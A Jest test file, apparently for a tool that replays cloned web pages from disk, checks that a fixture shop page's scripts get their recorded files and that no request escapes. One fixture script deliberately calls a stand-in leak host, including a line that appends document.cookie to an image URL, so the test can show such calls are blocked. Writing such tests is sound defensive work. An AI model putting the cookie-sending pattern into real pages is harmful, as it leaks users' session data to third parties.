import { createHash } from 'node:crypto';
import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import { stillAddress } from '../src/replay/still-page.ts';
import type { CloneManifest, RecordedCall } from '../src/store/clone-manifest.ts';
import { pictureOf } from './corpus/picture.ts';
import { type DiskClones, startDiskClones } from './support/disk-clones.ts';
import { MemorySink } from './support/memory-sink.ts';

jest.setTimeout(120_000);

let disk: DiskClones;
beforeAll(async () => {
  disk = await startDiskClones();
});
afterAll(() => disk.close());

/** Each is hard from a disk in another way, others are tried by `npm run test:deep`; what scripts may ask for is below. */
const OPENED = ['nomes', 'sprites', 'modulos'];

it.each(OPENED)('%s opens from a disk as it does on its host, and asks nobody', (name) =>
  disk.expectSameFromDisk(name),
);

/** A clone of `http://loja.test/oferta/?id=1` with these files, the page first. */
async function made(
  sink: MemorySink,
  files: Record<string, [body: string | Buffer, type: string]>,
  calls: Record<string, [body: string, type: string, status?: number]> = {},
): Promise<CloneManifest> {
  const stored: CloneManifest['files'] = {};
  for (const [address, [body, type]] of Object.entries(files)) {
    stored[address] = await sink.put(Buffer.from(body), type);
  }
  const recorded = Object.entries(calls).map(async ([asked, [body, type, status]]): Promise<RecordedCall> => {
    const [method = '', address = '', sent] = asked.split(' ');
    const bodySha256 = sent === undefined ? null : createHash('sha256').update(sent).digest('hex');
    const file = await sink.put(Buffer.from(body), type);
    return { method, address, bodySha256, answer: status === undefined ? file : { ...file, status } };
  });
  const entry = Object.keys(files)[0] ?? '';
  const originalUrl = `http://loja.test${entry}`;
  return { format: 1, entry, originalUrl, files: stored, redirects: {}, calls: await Promise.all(recorded) };
}

const PICTURE = pictureOf('disco');
const HTML = 'text/html; charset=utf-8';
const SCRIPT = 'text/javascript';

const LIVELY = `<!doctype html><html><head><title>Oferta</title></head><body>
<div id=caixa data-dados='{"foto":"http:\\/\\/cdn.test\\/foto.png"}'></div><p id=dito></p>
<a id=fora href="http://loja.test/outra?x=1">a</a><a id=dentro href="/guia.pdf">b</a><a id=aqui href="#fim">c</a>
<script src="/js/antigo.js?v=3"></script>
<script type=module src="/js/novo.js"></script>
<script type=module>import('/js/tarde.js').then(({ tarde }) => diz('tarde ' + tarde))</script></body></html>`;

/** Each says one word when what it asked for came as it must. */
const ANTIGO = `var ditas = [];
function diz(palavra) { ditas.push(palavra); document.getElementById('dito').textContent = ditas.sort().join(' '); }
function foto(nome, imagem) { imagem.onload = function () { diz(nome); }; document.body.appendChild(imagem); }
var json = new Image(); foto('json', json); json.src = JSON.parse(document.getElementById('caixa').dataset.dados).foto;
var raiz = new Image(); foto('raiz', raiz); raiz.setAttribute('src', '/img/foto.png?_=' + Math.random());
var perto = new Image(); foto('perto', perto); perto.src = 'perto.png';
var conjunto = new Image(); foto('conjunto', conjunto); conjunto.srcset = '/img/foto.png 1x, http://cdn.test/foto.png 2x';
fetch('/api/preco?_=1').then(function (r) { return r.json(); }).then(function (d) { diz('fetch ' + d.preco); });
fetch('http://api.test/frete', { method: 'POST', body: 'cep=1' }).then(function (r) { return r.text(); }).then(diz);
fetch(new Request('/nada')).then(function (r) { diz('falta ' + r.status); });
var velho = new XMLHttpRequest(); velho.open('GET', '/api/preco'); velho.responseType = 'json'; velho.setRequestHeader('x-a', '1');
velho.onload = function () { diz('xhr ' + velho.status + velho.response.preco); }; velho.send();
var erro = new XMLHttpRequest(); erro.open('GET', '/api/erro');
erro.onload = function () { diz('erro ' + erro.status + erro.responseText); }; erro.send();
var folha = document.head.appendChild(document.createElement('style')).sheet;
folha.insertRule('#caixa { background: url(http://cdn.test/foto.png) }');
if (/^url."file:.*\\/cdn.test\\/foto.png/.test(getComputedStyle(document.getElementById('caixa')).backgroundImage)) diz('regra');
history.pushState({}, '', '/outra/rota'); diz('rota');
new Image().src = 'http://vaza.test/a.gif'; fetch('http://vaza.test/b').catch(function () {});
document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="http://vaza.test/c.css">');
new Image().src = 'http://vaza.test/d.gif?' + document.cookie; navigator.sendBeacon('http://vaza.test/e', 'x');
document.body.appendChild(document.createElement('iframe')).src = 'http://vaza.test/f';`;

it('gives scripts from a disk what they had on a host, whatever way they ask, and nothing else', async () => {
  const sink = new MemorySink();
  const manifest = await made(
    sink,
    {
      '/oferta/?id=1': [LIVELY, HTML],
      '/js/antigo.js?v=3': [ANTIGO, SCRIPT],
      '/js/novo.js': [
        `import { a } from './a.js'; import('./' + 'b.js').then(({ b }) => diz('modulos ' + a() + b));
         import(\`./b.js\`).then(({ b }) => diz('modelo ' + b));
         const imagem = new Image(); foto('meta', imagem); imagem.src = new URL('../img/foto.png', import.meta.url).href;`,
        SCRIPT,
      ],
      '/js/a.js': [
        'import { b } from "./b.js"; export const a = () => "a" + b; export const c = "c";',
        SCRIPT,
      ],
      '/js/b.js': ['import { c } from "./a.js"; export const b = "b"; export const d = () => c;', SCRIPT],
      '/js/tarde.js': ['export const tarde = "sim"', SCRIPT],
      '/img/foto.png': [PICTURE, 'image/png'],
      '/oferta/perto.png': [PICTURE, 'image/png'],
      '/__ext/cdn.test/foto.png': [PICTURE, 'image/png'],
      '/guia.pdf': ['pdf', 'application/pdf'],
    },
    {
      'GET /api/preco': ['{"preco":"97 reais, à vista"}', 'application/json'],
      'GET /api/erro': ['sem', 'text/plain', 503],
      'POST /__ext/api.test/frete cep=1': ['um', 'text/plain'],
      'POST /__ext/api.test/frete cep=2': ['dois', 'text/plain'],
    },
  );
  const address = await disk.unpack({ manifest }, sink, 'viva');
  await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context, refused }) => {
    const tab = await context.newPage();
    await tab.goto(address);
    const said =
      'conjunto erro 503sem falta 404 fetch 97 reais, à vista json meta modelo b modulos abb perto raiz regra rota tarde sim um xhr 20097 reais, à vista';
    await tab.waitForFunction(`document.getElementById('dito').textContent === ${JSON.stringify(said)}`);
    const hrefs = "['fora', 'dentro', 'aqui'].map((id) => document.getElementById(id).href)";
    const folder = address.slice(0, address.lastIndexOf('/') + 1);
    expect(await tab.evaluate(hrefs)).toEqual([
      'http://loja.test/outra?x=1',
      `${folder}guia.pdf`,
      `${address}#fim`,
    ]);
    expect(refused()).toEqual([]);
  });
});

it('shows the page as it was drawn where its scripts do not know the place', async () => {
  const router = `document.body.textContent = location.pathname === '/oferta/' ? 'Curso completo de violão com garantia' : 'Página não encontrada'`;
  const sink = new MemorySink();
  const page = `<!doctype html><html><head></head><body><script src="/rotas.js"></script></body></html>`;
  const manifest = await made(sink, { '/oferta/': [page, HTML], '/rotas.js': [router, SCRIPT] });
  const still = '<!doctype html><html><head></head><body>Curso completo de violão com garantia</body></html>';
  const { sha256 } = manifest.files['/oferta/']!;
  manifest.files[stillAddress(sha256)] = await sink.put(Buffer.from(still), HTML);
  const address = await disk.unpack({ manifest }, sink, 'rotas');
  await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context }) => {
    const tab = await context.newPage();
    await tab.goto(address);
    await tab.getByText('Curso completo de violão').waitFor();
    expect(new URL(tab.url()).pathname).toMatch(/\/pagina-sem-scripts\.html$/);
  });
});
